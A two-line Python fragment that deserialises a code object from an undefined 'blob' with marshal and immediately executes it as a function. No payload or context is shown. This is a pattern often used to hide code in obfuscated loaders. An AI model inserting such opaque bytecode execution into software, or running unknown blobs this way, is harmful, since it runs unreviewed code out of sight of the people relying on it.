import marshal, types
types.FunctionType(marshal.loads(blob), globals())()
